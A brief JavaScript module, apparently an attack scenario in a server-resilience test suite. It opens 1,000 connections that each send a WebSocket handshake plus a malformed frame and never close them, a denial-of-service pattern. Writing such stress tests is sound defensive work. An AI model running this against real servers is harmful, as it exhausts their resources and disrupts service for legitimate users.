/** 1,000 connections that send a frame that is none, and never close. */
const CONNECTIONS = 1000;
const handshake =
  'GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
const request = Buffer.concat([Buffer.from(handshake), Buffer.from([0xff, 0xff])]);

export async function attack(stranger) {
  for (let i = 0; i < CONNECTIONS; i++) await stranger.tcp(request, { isReading: false });
}
